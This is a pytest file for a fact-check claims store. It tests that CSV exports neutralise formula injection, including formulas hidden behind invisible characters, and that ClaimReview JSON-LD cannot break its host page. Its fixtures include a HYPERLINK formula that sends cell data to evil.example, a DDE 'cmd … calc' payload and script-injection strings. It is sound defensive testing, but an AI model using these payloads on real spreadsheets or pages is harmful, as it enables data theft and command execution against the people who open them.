"""Issue 9, items 9 and 10: CSV rows cannot be split or turned into formulas, and ClaimReview
JSON-LD cannot break the page it is embedded in. On SQLite and PostgreSQL (the ``engine`` fixture)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from claims.formats import csv_safe
from claims.store import ingest_text, list_claims, load_statuses
from claims.store.export import write_claimreview, write_rows
from claims.store.query import iter_claims
from claims.store.workflow import set_status

EN = "Mayor Ana Ruiz said taxes would not rise. Officials said the bridge was safe."
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _export(engine) -> tuple[int, str]:
    buf = io.StringIO(newline="")
    n = write_rows(iter_claims(engine), buf, "csv")
    return n, buf.getvalue()


def test_bare_cr_in_a_field_does_not_split_the_row(engine):
    ingest_text(engine, EN, article_key="city", title="Budget\rnight", outlet="Gazette\r\nweekly")
    cid = list_claims(engine)[0]["id"]
    set_status(engine, cid, "misleading", analyst="asha", note=f"checked\r{FORMULA}")
    n, text = _export(engine)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == n == 2
    note = [r for r in rows if r["status"] == "misleading"][0]["verdict_note"]
    assert note == f"checked\r{FORMULA}"  # one cell, whole
    assert '"checked\r=HYPERLINK(' in text  # quoted: the CR cannot end the row, the formula starts no cell
    assert len(re.findall("\r\n", text)) >= n + 1  # RFC 4180 row ends
    assert all(r["article_title"] == "Budget\rnight" and r["article_outlet"] == "Gazette\r\nweekly" for r in rows)


@pytest.mark.parametrize(
    "lead",
    [" ", "  ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u2060", "\u3000", "\u2028", " \u200b\u00a0"],
)
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"])
def test_formulas_behind_invisible_characters_are_neutralised(lead, sign):
    value = f"{lead}{sign}SUM(1,2)"
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["taxes would not rise", "a = b", "3-2", "e-mail", "", "x@y.org", "\u00a0plain"])
def test_ordinary_text_is_left_alone(value):
    assert csv_safe(value) == value


def test_exported_cells_with_hidden_formulas_are_neutralised(engine):
    ingest_text(engine, EN, article_key="city", title="\u00a0=cmd|' /C calc'!A0", url="\u200b@SUM(1+1)")
    cid = list_claims(engine)[0]["id"]
    set_status(engine, cid, "false", analyst="asha", note="\uff1dHYPERLINK(1)")
    _, text = _export(engine)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["article_title"] for r in rows} == {"'\u00a0=cmd|' /C calc'!A0"}
    assert {r["article_url"] for r in rows} == {"'\u200b@SUM(1+1)"}
    assert "'\uff1dHYPERLINK(1)" in {r["verdict_note"] for r in rows}


def test_claimreview_cannot_break_the_embedding_page(engine):
    ingest_text(engine, EN, article_key="city", title="<!--<script>", url="https://example.org/?a=1&b=2")
    for c in list_claims(engine):
        set_status(engine, c["id"], "false", analyst="asha", note="<!--<script>alert(1)</script> & more \u2028 x")
    buf = io.StringIO()
    n = write_claimreview(iter_claims(engine), buf, load_statuses())
    out = buf.getvalue()
    assert n == 2
    for bad in ("<", ">", "&", "\u2028"):
        assert bad not in out, bad
    assert "\\u003c!--\\u003cscript\\u003e" in out
    reviews = json.loads(out)  # the same values after decoding
    assert reviews[0]["reviewBody"] == "<!--<script>alert(1)</script> & more \u2028 x"
    assert reviews[0]["itemReviewed"]["appearance"][0]["url"] == "https://example.org/?a=1&b=2"
    page = f'<html><head><script type="application/ld+json">{out}</script></head><body>ok</body></html>'
    assert page.count("<script") == 1 and page.count("</script") == 1 and "<!--" not in page
